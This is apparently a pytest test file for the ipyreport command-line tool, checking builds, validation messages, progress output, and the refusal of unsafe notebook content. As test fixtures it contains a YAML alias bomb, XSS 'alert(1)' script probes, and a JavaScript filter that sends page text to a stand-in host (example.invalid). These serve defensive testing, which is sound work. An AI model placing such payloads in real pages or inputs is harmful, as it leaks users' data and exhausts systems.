"""The ipyreport command, run in process."""

import io
import json
import sys
import textwrap

import pytest

from ipyreport import __version__
from ipyreport.cli import Progress, main

SPEC = textwrap.dedent(
    """\
    title: Small
    formats: {Revenue: $}
    data:
      sample: sales
    slides:
      - steps:
          - chart: {kind: column, x: Region, y: Revenue}
    """
)


@pytest.fixture
def spec(tmp_path):
    path = tmp_path / "small.yaml"
    path.write_text(SPEC)
    return path


def test_version(capsys):
    assert main(["--version"]) == 0
    assert capsys.readouterr().out == f"ipyreport {__version__}\n"


def test_no_command_is_a_usage_error(capsys):
    assert main([]) == 2
    assert "usage: ipyreport" in capsys.readouterr().err


def test_unknown_command_is_a_usage_error(capsys):
    assert main(["frobnicate"]) == 2
    assert "invalid choice: 'frobnicate'" in capsys.readouterr().err


def test_build_writes_next_to_the_spec_by_default(spec, capsys):
    assert main(["build", str(spec)]) == 0
    target = spec.with_suffix(".html")
    assert target.read_text().startswith("<!doctype html>")
    assert capsys.readouterr().out.startswith(f"{target}  (")


def test_build_to_a_named_file_and_to_a_folder(spec, tmp_path):
    assert main(["build", str(spec), "-o", str(tmp_path / "out.html"), "-q"]) == 0
    assert (tmp_path / "out.html").exists()
    assert main(["build", str(spec), str(spec), "-o", str(tmp_path / "many"), "-q"]) == 0
    assert (tmp_path / "many" / "small.html").exists()


def test_build_applies_overrides(spec, tmp_path):
    out = tmp_path / "o.html"
    assert main(["build", str(spec), "--set", "title=Quarter 3", "-o", str(out), "-q"]) == 0
    assert "<title>Quarter 3</title>" in out.read_text()


def test_build_failure_is_exit_1_with_the_message(spec, capsys):
    spec.write_text(SPEC.replace("x: Region", "x: Regoin"))
    assert main(["build", str(spec)]) == 1
    assert (
        "slide 1, step 1, chart.x: x='Regoin' is not in the data (did you mean 'Region'?)"
        in capsys.readouterr().err
    )


def test_one_output_file_for_several_specs_is_a_usage_error(spec, capsys):
    assert main(["build", str(spec), str(spec), "-o", "x.html"]) == 2
    assert "several specs" in capsys.readouterr().err


def test_validate_reports_ok_and_failures(spec, tmp_path, capsys):
    assert main(["validate", str(spec)]) == 0
    assert capsys.readouterr().out == f"{spec}: ok (1 slides, 1 steps, 6,420 rows)\n"
    assert main(["validate", str(tmp_path / "missing.yaml")]) == 1
    assert "no such spec file" in capsys.readouterr().err


def test_schema_prints_json_schema(capsys):
    assert main(["schema"]) == 0
    assert json.loads(capsys.readouterr().out)["title"] == "ipyreport story spec"


def test_demo_builds_every_example_and_says_where(tmp_path, capsys):
    assert main(["demo", "--out", str(tmp_path), "--orders", "20000"]) == 0
    out = capsys.readouterr().out
    built = sorted(p.name for p in tmp_path.glob("*.html"))
    assert built == ["monthly-playback.html", "orders-at-scale.html", "sales-overview.html"]
    for name in built:
        assert str(tmp_path / name) in out
    assert f"open them in a browser (they work offline): {tmp_path.resolve()}" in out


class Terminal(io.StringIO):
    def isatty(self):
        return True


def test_build_shows_a_bar_on_a_terminal_and_nothing_in_a_log_when_fast_or_with_q(
    spec, monkeypatch, capsys
):
    terminal = Terminal()
    monkeypatch.setattr(sys, "stderr", terminal)
    assert main(["build", str(spec)]) == 0
    shown = terminal.getvalue()
    assert "[--------" in shown  # reading
    assert "writing" in shown
    assert shown.endswith("\r")  # the line is cleared when done
    monkeypatch.undo()
    capsys.readouterr()
    # However busy the machine, this build counts as fast.
    monkeypatch.setattr(Progress, "LOG_AFTER", 60.0)
    assert main(["build", str(spec)]) == 0
    # In a log a fast build writes no progress lines (see test_progress.py for slow stages).
    assert capsys.readouterr().err == ""
    assert main(["build", "-q", str(spec)]) == 0
    assert capsys.readouterr().err == ""


def test_a_folder_named_as_a_spec_is_one_line(tmp_path, capsys):
    assert main(["validate", str(tmp_path)]) == 1
    assert capsys.readouterr().err == (
        f"{tmp_path}: is a folder; name a spec file inside it, such as {tmp_path / 'story.yaml'}\n"
    )


def test_an_unclosed_override_is_one_line(spec, capsys):
    assert main(["build", str(spec), "--set", "title=[unclosed"]) == 1
    err = capsys.readouterr().err
    assert err.startswith("--set 'title=[unclosed': the value is not valid YAML")
    assert "Traceback" not in err


def test_a_bad_source_date_epoch_is_one_line(spec, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "abc")
    assert main(["build", str(spec), "-o", str(tmp_path / "out.html")]) == 1
    assert capsys.readouterr().err == (
        "SOURCE_DATE_EPOCH must be whole seconds since 1970-01-01 UTC (such as 1767225600), "
        "got 'abc'; fix or unset it\n"
    )
    assert not (tmp_path / "out.html").exists()


def test_an_alias_bomb_fails_fast_and_small(tmp_path, capsys):
    import resource
    import time

    spec = tmp_path / "bomb.yaml"
    layers = ["a: &a [" + ", ".join(['"lol"'] * 9) + "]"]
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        layers.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    spec.write_text("\n".join(layers) + "\ndata: {sample: sales}\nslides: [*i]\n")
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.perf_counter()
    assert main(["validate", str(spec)]) == 1
    assert time.perf_counter() - started < 1.0
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 100_000  # KB
    assert "YAML aliases (*a) are not allowed in a spec" in capsys.readouterr().err


def test_a_notebook_without_saved_stories_is_refused_with_the_fix(tmp_path, capsys):
    import json

    notebook = tmp_path / "empty.ipynb"
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Title <script>alert(1)</script>"]},
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": None,
            "outputs": [],
            "source": ["1 + 1"],
        },
    ]
    notebook.write_text(
        json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    )
    assert main(["build", str(notebook), "-o", str(tmp_path / "out.html")]) == 1
    assert (
        "no story is shown in its saved outputs; run it and save it with its outputs"
        in capsys.readouterr().err
    )


def test_a_notebooks_markdown_is_escaped_in_its_article():
    from ipyreport.export.notebook_article import _markdown

    rendered = _markdown()("Some **bold** words.\n\n<script>alert(1)</script>")
    assert "<strong>bold</strong>" in rendered
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered
    assert "<script>" not in rendered


def _notebook_showing(tmp_path, edit=None, markdown="# Saved story"):
    """A notebook whose one code cell shows a story, its saved document passed through ``edit``."""
    import html
    import json
    import re

    from ipyreport import Slide, Story, presets, samples

    story = Story(
        samples.sales(),
        title="Saved",
        slides=[Slide(presets.chart(kind="column", x="Region", y="Revenue"))],
    )
    page = story._repr_mimebundle_()["text/html"]
    if edit is not None:

        def tamper(frame):
            inner = html.unescape(frame.group(1))
            found = re.search(r'(id="ipyreport-story">)(.*?)(</script>)', inner, re.DOTALL)
            document = edit(json.loads(found.group(2)))
            inner = inner.replace(found.group(2), json.dumps(document).replace("<", "\\u003c"))
            return f'srcdoc="{html.escape(inner, quote=True)}"'

        page = re.sub(r'srcdoc="([^"]*)"', tamper, page)
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": [markdown]},
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": 1,
            "source": ["story"],
            "outputs": [
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "metadata": {},
                    "data": {"text/html": page, "text/plain": "story"},
                }
            ],
        },
    ]
    notebook = tmp_path / "saved.ipynb"
    notebook.write_text(
        json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5})
    )
    return notebook


def _with_raw_filter(document):
    code = "r => { location.href = 'https://example.invalid/?' + document.body.innerText; return true; }"
    document["slides"][0]["steps"][0]["filter"] = {"and": [{"raw": code}]}
    return document


def test_a_notebooks_saved_story_with_javascript_is_refused(tmp_path, capsys):
    notebook = _notebook_showing(tmp_path, _with_raw_filter)
    out = tmp_path / "article.html"
    assert main(["build", str(notebook), "-o", str(out)]) == 1
    error = capsys.readouterr().err
    assert "cell 2: the saved story runs its own JavaScript (a raw filter:" in error
    assert "build with --allow-code only if you trust the notebook" in error
    assert not out.exists()
    assert main(["build", str(notebook), "-o", str(out), "--allow-code"]) == 0
    assert "example.invalid" in out.read_text()


def test_a_notebooks_saved_story_must_be_a_story_document(tmp_path, capsys):
    def broken(document):
        document["slides"][0]["steps"][0]["config"] = "alert(1)"
        return document

    notebook = _notebook_showing(tmp_path, broken)
    assert main(["build", str(notebook), "-o", str(tmp_path / "a.html")]) == 1
    error = capsys.readouterr().err
    assert "cell 2: the saved story is not a story document (slides/0/steps/0/config:" in error


def test_a_notebooks_untouched_story_builds_and_its_linked_pictures_are_dropped(tmp_path):
    import re

    markdown = "# Saved story\n\n![the logo](https://example.invalid/logo.png) and ![](http://x.invalid/a.png)"
    notebook = _notebook_showing(tmp_path, markdown=markdown)
    out = tmp_path / "article.html"
    assert main(["build", str(notebook), "-o", str(out), "-q"]) == 0
    page = out.read_text()
    assert "invalid" not in page
    assert re.findall(r"<img [^>]*src=", page) == []
    assert '<span class="ipyreport-dropped-picture">the logo</span>' in page


def test_a_notebooks_saved_story_with_a_value_the_engine_cannot_read_is_refused(tmp_path, capsys):
    def unreadable(document):
        document["slides"][0]["steps"][0]["style"] = {"fontSize": "abc"}
        return document

    notebook = _notebook_showing(tmp_path, unreadable)
    out = tmp_path / "article.html"
    assert main(["build", str(notebook), "-o", str(out)]) == 1
    error = capsys.readouterr().err
    assert error.endswith(
        "cell 2: the saved story holds a value the chart engine cannot take "
        "(slides/0/steps/0/style: fontSize: 'abc' is not a length; write pixels as a number or "
        "text such as 12, '12px', '1.2em' (times the font size) or '80%'); run the notebook "
        "again and save it\n"
    )
    assert not out.exists()


@pytest.mark.parametrize(
    ("terminal", "quiet", "shown"),
    [(True, False, True), (True, True, False), (False, False, False)],
)
def test_duckdbs_progress_bar_is_drawn_only_in_a_terminal_and_not_when_quiet(
    tmp_path, monkeypatch, terminal, quiet, shown
):
    import argparse
    import sys

    from ipyreport._access import locked_connection
    from ipyreport.cli import _access

    monkeypatch.setattr(sys.stderr, "isatty", lambda: terminal)
    args = argparse.Namespace(allowed=[], allow_code=False, memory_limit=None, quiet=quiet)
    access = _access(tmp_path / "s.yaml", args)
    connection = locked_connection(access)
    setting = connection.execute("SELECT current_setting('enable_progress_bar')").fetchone()[0]
    assert setting is shown
